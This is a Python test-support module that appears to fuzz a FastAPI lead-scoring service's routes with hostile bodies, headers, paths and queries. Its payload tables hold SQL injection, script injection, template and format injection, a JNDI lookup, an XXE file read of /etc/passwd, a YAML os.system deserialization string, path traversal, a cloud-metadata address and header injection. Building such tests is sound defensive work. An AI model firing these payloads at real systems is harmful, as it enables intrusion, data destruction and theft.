"""What a client could send to hurt: values, bodies, headers, queries and paths, for every route.

The routes come from the reviewed table of access and from the OpenAPI document, so a route that is
added is attacked by itself.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any, NamedTuple
from urllib.parse import quote

from fastapi import FastAPI

from serving.guard.access import ROWS
from serving.strict_json import MAX_DEPTH

__all__ = ["CANARY", "VALUES", "Attack", "attacks_by_body", "attacks_by_head", "attacks_by_path"]

CANARY = "himitsu-taro"
"""Stands for a person's name; it may come back in no refusal."""

LONG = 100_000


def _deep(n: int, opening: bytes, closing: bytes, inner: bytes = b"1") -> bytes:
    return opening * n + inner + closing * n


VALUES: dict[str, bytes] = {
    # numbers that are none, or too much
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "minus Infinity": b"-Infinity",
    "1e400": b"1e400",
    "minus 1e400": b"-1e400",
    "1e-400": b"1e-400",
    "the largest double": b"1.7976931348623157e308",
    "minus zero": b"-0.0",
    "5,000 digits": b"9" * 5_000,
    "5,000 decimals": b"0." + b"1" * 5_000,
    "a huge exponent": b"1e99999999999",
    "2^63": b"9223372036854775808",
    "2^64": b"18446744073709551616",
    "minus 2^64": b"-18446744073709551616",
    "hexadecimal": b"0x1F",
    "a leading zero": b"01",
    "a leading plus": b"+1",
    "a bare point": b".5",
    "a trailing point": b"1.",
    "a full-width digit": "１".encode(),
    # characters that are halves, hidden or forbidden
    "half a character": b'"himitsu-taro\\ud800"',
    "the other half": b'"\\udfffhimitsu-taro"',
    "halves the wrong way round": b'"\\ude00\\ud83dhimitsu-taro"',
    "half a character as bytes": b'"himitsu-taro\xed\xa0\x80"',
    "a byte that is no UTF-8": b'"himitsu-taro\xff"',
    "an overlong NUL": b'"himitsu-taro\xc0\x80"',
    "beyond Unicode": b'"himitsu-taro\xf5\x80\x80\x80"',
    "a cut character": b'"himitsu-taro\xe6\xa0',
    "a raw NUL": b'"himitsu-taro\x00"',
    "an escaped NUL": b'"himitsu-taro\\u0000"',
    "a raw line end": b'"himitsu-taro\n"',
    "a raw tab": b'"himitsu-taro\t"',
    "terminal escapes": b'"\\u001b]0;himitsu-taro\\u0007"',
    "DEL": b'"himitsu-taro\\u007f"',
    "C1 controls": b'"himitsu-taro\\u0085\\u009b"',
    "a direction override": b'"\\u202ehimitsu-taro\\u202c"',
    "zero-width characters": b'"h\\u200bimitsu-taro\\u2060\\ufeff"',
    "a non-character": b'"himitsu-taro\\uffff"',
    "1,000 combining marks": b'"himitsu-taro' + b"\\u0301" * 1_000 + b'"',
    "a byte order mark in front": b'\xef\xbb\xbf"himitsu-taro"',
    "CP932": '"himitsu-taro展示会"'.encode("cp932"),
    "UTF-16": '"himitsu-taro"'.encode("utf-16"),
    "UTF-32": '"himitsu-taro"'.encode("utf-32"),
    "UTF-7": b'"+AGgAaQBtAGkAdABzAHU-taro"',
    # texts that mean something elsewhere
    "a long text": b'"himitsu-taro' + b"x" * LONG + b'"',
    "an empty text": b'""',
    "blanks": b'"   "',
    "SQL": b'"himitsu-taro\'); DROP TABLE events; --"',
    "markup": b"\"<script>alert('himitsu-taro')</script>\"",
    "a template": b'"{{7*7}}${7*7}#{7*7}himitsu-taro"',
    "a format": b'"%s%n{0.__class__}himitsu-taro"',
    "a formula": b"\"=cmd|' /C calc'!A0 himitsu-taro\"",
    "a path": b'"../../../../etc/passwd\\u0000himitsu-taro"',
    "an address": b'"http://169.254.169.254/latest/himitsu-taro"',
    "a lookup": b'"${jndi:ldap://himitsu-taro.example/a}"',
    "a header": b'"himitsu-taro\\r\\nSet-Cookie: a=b"',
    "JSON in a text": b'"{\\"lead_id\\": \\"himitsu-taro\\"}"',
    "a date that is none": b'"2026-02-30T25:61:61+99:99 himitsu-taro"',
    "a far date": b'"99999-12-31T00:00:00Z"',
    "year 0": b'"0000-00-00T00:00:00Z"',
    "a date with a huge offset": b'"2026-01-01T00:00:00+23:59:59.999999"',
    # shapes
    "null": b"null",
    "true": b"true",
    "a number": b"1",
    "a fraction": b"1.5",
    "an empty list": b"[]",
    "an empty object": b"{}",
    "a list of names": b'["himitsu-taro"]',
    "an object of names": b'{"himitsu-taro": "himitsu-taro"}',
    "nested to the limit": _deep(MAX_DEPTH - 4, b"[", b"]"),
    "nested one too deep": _deep(MAX_DEPTH + 1, b"[", b"]"),
    "nested 1,000 deep": _deep(1_000, b"[", b"]"),
    "objects 1,000 deep": _deep(1_000, b'{"a":', b"}"),
    "brackets without end": b"[" * LONG,
    "objects without end": b'{"a":' * 20_000,
    "10,000 entries": b"[" + b",".join([b'"himitsu-taro"'] * 10_000) + b"]",
    "10,000 keys": b"{" + b",".join(b'"himitsu-taro%d":1' % k for k in range(10_000)) + b"}",
    "a key twice": b'{"lead_id": "a", "lead_id": "himitsu-taro"}',
    "an empty key": b'{"": "himitsu-taro"}',
    "a long key": b'{"himitsu-taro' + b"x" * LONG + b'": 1}',
    "a prototype": b'{"__proto__": {"admin": true}, "constructor": 1, "__class__": "himitsu-taro"}',
    # what is no JSON
    "nothing": b"",
    "blanks only": b" \n\t",
    "single quotes": b"'himitsu-taro'",
    "no quotes": b"himitsu-taro",
    "Python": b"None",
    "a comment": b'1 // "himitsu-taro"',
    "a trailing comma": b'["himitsu-taro",]',
    "an open text": b'"himitsu-taro',
    "a wrong escape": b'"himitsu-taro\\x41"',
    "half an escape": b'"himitsu-taro\\u12',
    "two documents": b'{} {"a": "himitsu-taro"}',
    "form fields": b"lead_id=himitsu-taro&fields=1",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": b"!!python/object/apply:os.system ['himitsu-taro']",
    "a pickle": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
    "a zip": b"PK\x03\x04" + bytes(range(256)),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(64),
    "all bytes": bytes(range(256)),
}

CONTENT_TYPES = (
    "",
    "text/plain",
    "text/csv",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=himitsu-taro",
    "multipart/form-data",
    "application/json; charset=shift_jis",
    "application/json; charset=utf-16",
    "application/json; charset=utf-7",
    "application/json; charset=himitsu-taro",
    "application/json; charset=",
    "application/json;charset=utf-8;charset=cp932",
    "application/xml",
    "application/octet-stream",
    "application",
    "/",
    ";",
    "application/json\x00",
    "a/" + "x" * 5_000,
)
HEADERS: tuple[tuple[str, str], ...] = (
    ("X-Request-ID", CANARY + "<script>"),
    ("X-Request-ID", "x" * 5_000),
    ("Accept-Language", CANARY),
    ("Accept-Language", "ja;q=99999999999999999999999,en;q=NaN,*;q=-1"),
    ("Accept-Language", "," * 5_000),
    ("Accept", "himitsu-taro/x"),
    ("Authorization", f"Bearer {CANARY}"),
    ("Authorization", "Bearer lq_abcdefgh_" + "x" * 5_000),
    ("Authorization", "Basic aGltaXRzdTp0YXJv"),
    ("Authorization", "Bearer \xff\xfe"),
    ("Cookie", f"session={CANARY}"),
    ("Cookie", "a=b; " * 1_000),
    ("Cookie", "__Host-session=\xff; =; ;;"),
    ("Host", CANARY),
    ("Host", "evil.example:99999"),
    ("Origin", f"https://{CANARY}.example"),
    ("Referer", f"https://{CANARY}.example/?{CANARY}"),
    ("X-Forwarded-For", f"{CANARY}, 1.2.3.4, ::1"),
    ("X-Forwarded-Proto", CANARY),
    ("Forwarded", f"for={CANARY};host=evil"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Original-URL", "/v1/keys"),
    ("Range", "bytes=0-0," + "0-1," * 500),
    ("If-None-Match", CANARY),
    ("If-Modified-Since", "Sat, 99 Foo 0000 99:99:99 GMT"),
    ("Content-Encoding", "gzip"),
    ("Content-Encoding", CANARY),
    ("Expect", CANARY),
    ("Sec-Fetch-Site", CANARY),
    ("Connection", f"close, {CANARY}"),
)
IN_ADDRESS = (
    CANARY,
    "",
    " ",
    "%00",
    "a%00b",
    "%ff%fe",
    "%ed%a0%80",
    "%u0041",
    "%",
    "%zz",
    "..",
    "../..",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f",
    "..%5c..%5c",
    "%252e%252e%252f",
    "a%0d%0aSet-Cookie:%20a=b",
    "%1b%5b31m",
    "%e2%80%ae",
    "'%20OR%201=1--",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "-1",
    "0",
    "1e5",
    "NaN",
    "Infinity",
    "9" * 400,
    "1" + "0" * 30,
    "1_000",
    quote("１２"),
    "true",
    "null",
    "[]",
    "x" * 201,
    "x" * 8_000,
    "%f0%9f%98%80",
    "2026-02-30",
    "0000-00-00",
    "99999-01-01",
)


class Attack(NamedTuple):
    """One request.

    Attributes
    ----------
    turn : int
        Its place among those of the same value or part; a short run takes the first ones.
    """

    name: str
    method: str
    path: str
    body: bytes
    headers: dict[str, str]
    turn: int = 0


def writing_routes() -> list[tuple[str, str]]:
    """Return method and path of every route that takes a body or changes something."""
    found = {(row.method, row.path) for row in ROWS}
    return sorted(one for one in found if one[0] in ("POST", "PUT", "PATCH", "DELETE"))


def filled(path: str, given: str = "L-1") -> str:
    """Return a route's path with `given` for each of its parameters."""
    return "/".join(given if part.startswith("{") else part for part in path.split("/"))


# -- bodies ---------------------------------------------------------------------------------------

_GOOD: dict[str, list[bytes]] = {
    "/v1/score": [
        b'{"lead_id": "L", "fields": {"source": %s}}',
        b'{"lead_id": "L", "fields": {"employees": %s}}',
        b'{"lead_id": %s, "fields": {}}',
        b'{"lead_id": "L", "fields": {}, "as_of": %s}',
        b'{"lead_id": "L", "fields": {}, "events": [{"kind": "page_view", "at": %s}]}',
        b'{"lead_id": "L", "fields": {}, "events": [{"kind": %s, "at": "2026-01-01T00:00:00Z"}]}',
    ],
    "/v1/score/batch": [
        b'{"leads": [{"lead_id": "L", "fields": {"source": %s}}]}',
        b'{"leads": [{"lead_id": "L", "fields": {}}, %s]}',
    ],
    "/v1/events": [
        b'{"event_id": %s, "lead_id": "L", "at": "2026-01-01T00:00:00Z", "kind": "accepted"}',
        b'{"event_id": "e", "lead_id": "L", "at": %s, "kind": "accepted"}',
        b'{"event_id": "f", "lead_id": "L", "at": "2026-01-01T00:00:00Z", "kind": "rejected", "reason": %s}',
        b'{"event_id": "g", "lead_id": "L", "at": "2026-01-01T00:00:00Z", "kind": "accepted", "amount": %s}',
        b'{"event_id": "h", "lead_id": "L", "at": "2026-01-01T00:00:00Z", "kind": "rejected", "return_on": %s}',
        b'{"events": [{"lead_id": "L", "at": "2026-01-01T00:00:00Z", "kind": "accepted"}, %s]}',
    ],
    "/v1/keys": [b'{"name": %s, "scopes": ["score"]}', b'{"name": "n", "scopes": [%s]}'],
}


def _templates(path: str, fields: list[str]) -> Iterator[tuple[str, bytes]]:
    yield "at the root", b"%s"
    yield "in a list", b"[%s]"
    yield "in an unknown key", b'{"himitsu-taro": %s}'
    for name in fields:
        yield f"in {name}", b'{"' + name.encode() + b'": %s}'
    for template in _GOOD.get(path, ()):
        yield f"in {template.decode()[:90]}", template


def _fields_of(app: FastAPI, method: str, path: str) -> list[str]:
    """Return the names that a route's body may have, by the OpenAPI document."""
    document = app.openapi()
    told = document["paths"].get(path.replace(":path", ""), {}).get(method.lower(), {})
    found: list[str] = []

    def look(schema: dict[str, Any]) -> None:
        if "$ref" in schema:
            look(document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]])
        for inner in (*schema.get("anyOf", ()), *schema.get("oneOf", ())):
            look(inner)
        found.extend(schema.get("properties", {}))

    for content in told.get("requestBody", {}).get("content", {}).values():
        look(content["schema"])
    return sorted(set(found))


def attacks_by_body(app: FastAPI, method: str, path: str) -> Iterator[Attack]:
    """Give every hostile value in every place of a route's body, and every declared charset."""
    address = filled(path)
    is_json = {"Content-Type": "application/json"}
    templates = list(_templates(path, _fields_of(app, method, path)))
    for k, (name, value) in enumerate(VALUES.items()):
        # One after the other through the places, so that a short run visits each of them.
        for j in range(len(templates)):
            place, template = templates[(k + j) % len(templates)]
            body = template.replace(b"%s", value, 1)
            yield Attack(f"{name} {place}", method, address, body, is_json, j)
    for kind in CONTENT_TYPES:
        for j, name in enumerate(("a list of names", "CP932", "form fields", "all bytes")):
            headers = {"Content-Type": kind}
            yield Attack(f"{name} as {kind[:60]!r}", method, address, VALUES[name], headers, 2 * j)
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for name, value in VALUES.items():
        for j, field in enumerate(("name", "token", "next")):
            body = b"password=himitsu-taro&" + field.encode() + b"=" + value
            is_read = path == "/sign-in"
            yield Attack(
                f"{name} in the form's {field}", method, address, body, form, j + 9 * (not is_read)
            )


# -- headers, queries, paths ------------------------------------------------------------------------


def attacks_by_head(method: str, path: str) -> Iterator[Attack]:
    """Give every hostile header to a route."""
    body = json.dumps({CANARY: CANARY}).encode() if method in ("POST", "PUT", "PATCH") else b""
    for name, value in HEADERS:
        headers = {"Content-Type": "application/json"} if body else {}
        told = f"{name}: {value[:40]!r}"
        yield Attack(told, method, filled(path), body, headers | {name: value})


def attacks_by_path(app: FastAPI, method: str, path: str) -> Iterator[Attack]:
    """Give hostile values in each part of a route's path and query."""
    if "{" in path:
        for given in IN_ADDRESS:
            yield Attack(f"path {given[:40]!r}", method, filled(path, given), b"", {})
    told = app.openapi()["paths"].get(path.replace(":path", ""), {}).get(method.lower(), {})
    named = [one["name"] for one in told.get("parameters", ()) if one["in"] == "query"]
    for name in (*named, "lang", "lead_id", CANARY):
        for j, given in enumerate(IN_ADDRESS):
            address = f"{filled(path)}?{name}={given}"
            is_read = name in named
            yield Attack(
                f"query {name}={given[:40]!r}", method, address, b"", {}, j % 3 + 9 * (not is_read)
            )
    for query in ("&" * 3_000, "=" * 3_000, f"{CANARY}=1&" * 500, "a[]=1&a[b]=2", "%"):
        yield Attack(f"query {query[:20]!r}", method, f"{filled(path)}?{query}", b"", {})
